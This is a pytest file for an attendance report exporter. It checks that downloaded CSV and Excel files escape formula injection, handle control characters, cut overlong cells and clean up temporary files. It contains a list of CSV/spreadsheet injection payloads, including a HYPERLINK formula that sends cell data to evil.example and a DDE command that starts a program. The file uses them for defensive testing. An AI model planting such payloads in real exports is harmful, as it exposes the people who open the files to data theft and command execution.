"""A table that is downloaded opens as what it is, whatever texts somebody has put into it."""

import csv
import io
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest

from attendance.reasons import Text
from attendance.report_table import Cells, Column
from gateway import download

COLUMNS = (
    Column("title", Text("Course", "课程")),
    Column("kind", Text("Kind", "类别"), {"bonus": Text("Bonus", "奖励")}),
    Column("amount", Text("Amount", "数量")),
)
WHAT_FORMULAS_BEGIN_WITH = tuple("=+-@＝＋－＠\t\r\n")

HOSTILE = [
    pytest.param('=HYPERLINK("https://evil.example/?"&A1,"Click")', id="a link that sends a cell away"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="a program to start"),
    pytest.param("+1-1", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("\t=1+1", id="a TAB before it"),
    pytest.param("\r=1+1", id="a carriage return before it"),
    pytest.param("\n=1+1", id="a line feed before it"),
    pytest.param("  =1+1", id="blanks before it"),
    pytest.param("\u3000＝1+1", id="full width"),
    pytest.param('","=1+1', id="a quote that ends the field"),
    pytest.param('"\r\n=1+1,"', id="a quote that ends the line"),
    pytest.param("\u00a0@A1", id="a blank that does not break"),
]


def written(*rows: Cells, language: Any = "en") -> bytes:
    return b"".join(download.csv_file(COLUMNS, rows, language=language))


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def sheet(*rows: Cells, language: Any = "en", title: str = "Hours") -> Any:
    """Write a workbook and open its sheet."""
    return openpyxl.load_workbook(io.BytesIO(packed(*rows, language=language, title=title))).active


def packed(*rows: Cells, language: Any = "en", title: str = "Hours") -> bytes:
    return b"".join(download.xlsx_file(COLUMNS, rows, language=language, title=title))


def test_a_csv_has_a_mark_for_excel_and_lines_that_end_as_the_standard_says() -> None:
    data = written(("订单录入", "bonus", Decimal("2.0")), language="zh")

    assert data == "\ufeff课程,类别,数量\r\n订单录入,奖励,2.0\r\n".encode()


def test_texts_with_commas_quotes_and_lines_come_back_as_they_were() -> None:
    title = 'Orders, "rush",\r\nand returns'

    assert read(written((title, "bonus", 1)))[1] == [title, "Bonus", "1"]


@pytest.mark.parametrize("title", HOSTILE)
def test_no_text_in_a_csv_becomes_a_formula(title: str) -> None:
    [_, *lines] = read(written((title, "credit", 1)))

    [[shown, *rest]] = lines
    assert rest == ["credit", "1"]
    assert not shown.lstrip().startswith(WHAT_FORMULAS_BEGIN_WITH)
    assert shown.removeprefix("'") == title


@pytest.mark.parametrize("title", HOSTILE)
def test_no_text_in_a_workbook_becomes_a_formula(title: str) -> None:
    cell = sheet((title, "credit", 1))["A2"]

    assert cell.data_type == "s"
    assert cell.value == title.replace("\r\n", "\n").replace("\r", "\n")
    assert bool(cell.quotePrefix) is not title.startswith('"')


def test_our_own_negative_numbers_stay_numbers() -> None:
    row = ("less", "credit", Decimal("-0.50"))

    assert read(written(row))[1][2] == "-0.50"
    assert sheet(row)["C2"].value == -0.5


@pytest.mark.parametrize("title", ["#REF!", "#N/A", "TRUE", "1e5", "2026-11-20", "00123"])
def test_text_that_looks_like_something_else_is_text_in_a_workbook(title: str) -> None:
    cell = sheet((title, "credit", 1))["A2"]

    assert (cell.value, cell.data_type) == (title, "s")


@pytest.mark.parametrize(
    "cell, told, real",
    [
        pytest.param(date(2026, 11, 20), "2026-11-20", datetime(2026, 11, 20), id="a date"),  # noqa: DTZ001
        pytest.param(datetime(2026, 11, 20, 9), "2026-11-20 09:00", datetime(2026, 11, 20, 9), id="a moment"),  # noqa: DTZ001
        pytest.param(date(1899, 12, 31), "1899-12-31", "1899-12-31", id="a date that Excel has none for"),
        pytest.param(Decimal("1E+2"), "100", 100, id="a decimal"),
        pytest.param(165, "165", 165, id="a number"),
        pytest.param(None, "", None, id="nothing"),
    ],
)
def test_values_are_real_cells(cell: Any, told: str, real: Any) -> None:
    assert read(written(("x", "credit", cell)))[1][2] == told
    assert sheet(("x", "credit", cell))["C2"].value == real


@pytest.mark.parametrize("control", ["\x00", "\x08", "\x0b", "\x1f", "\ufffe", "\uffff", "\ud800"], ids=ascii)
def test_characters_that_no_file_can_hold_leave_a_sign(control: str) -> None:
    row = (f"a{control}b", "credit", 1)

    assert read(written(row))[1][0] == "a\ufffdb"
    assert sheet(row)["A2"].value == "a\ufffdb"


@pytest.mark.parametrize(
    "title, length",
    [
        pytest.param("x" * 32_767, 32_767, id="as long as a cell"),
        pytest.param("x" * 32_768, 32_767, id="one too long"),
        pytest.param("=" + "x" * 40_000, 32_767, id="much too long"),
        pytest.param("\U0001f600" * 16_384, 16_384, id="two units a character"),
    ],
)
def test_what_is_too_long_for_a_cell_is_cut_and_shows_it(title: str, length: int) -> None:
    in_csv, in_sheet = read(written((title, "credit", 1)))[1][0], sheet((title, "credit", 1))["A2"].value

    assert len(in_csv) == len(in_sheet) == length
    assert len(in_sheet.encode("utf-16-le")) <= 2 * 32_767
    assert in_csv.endswith("…") == in_sheet.endswith("…") == (title != in_sheet)


def test_text_that_excel_would_take_for_the_number_of_a_character_is_escaped() -> None:
    with zipfile.ZipFile(io.BytesIO(packed(("_x003D_1+1 _x000_", "credit", 1)))) as book:
        texts = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml")).itertext()  # noqa: S314

    assert "_x005F_x003D_1+1 _x000_" in list(texts)


@pytest.mark.parametrize(
    "title, named", [("学时记录", "学时记录"), ("Sign-in / [absence]?", "Sign-in    absence  "), ("x" * 40, "x" * 31)]
)
def test_a_sheet_is_named_as_excel_allows(title: str, named: str) -> None:
    assert sheet(title=title).title == named


def test_a_long_table_is_written_chunk_by_chunk() -> None:
    asked = list[int]()

    def rows() -> Iterator[Cells]:
        for number in range(10_000):
            asked.append(number)
            yield ("Order entry", "credit", number)

    chunks = download.csv_file(COLUMNS, rows(), language="en")
    first = next(chunks)

    assert len(first) < 2 * download.CHUNK
    assert len(asked) < 10_000
    assert len(read(first + b"".join(chunks))) == 10_001


def test_rows_that_break_off_leave_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[Cells]:
        yield ("Order entry", "credit", 1)
        assert list(tmp_path.iterdir())
        raise ConnectionError("the database is gone")

    with pytest.raises(ConnectionError, match="gone"):
        download.xlsx_file(COLUMNS, rows(), language="en", title="Hours")

    assert list(tmp_path.iterdir()) == []
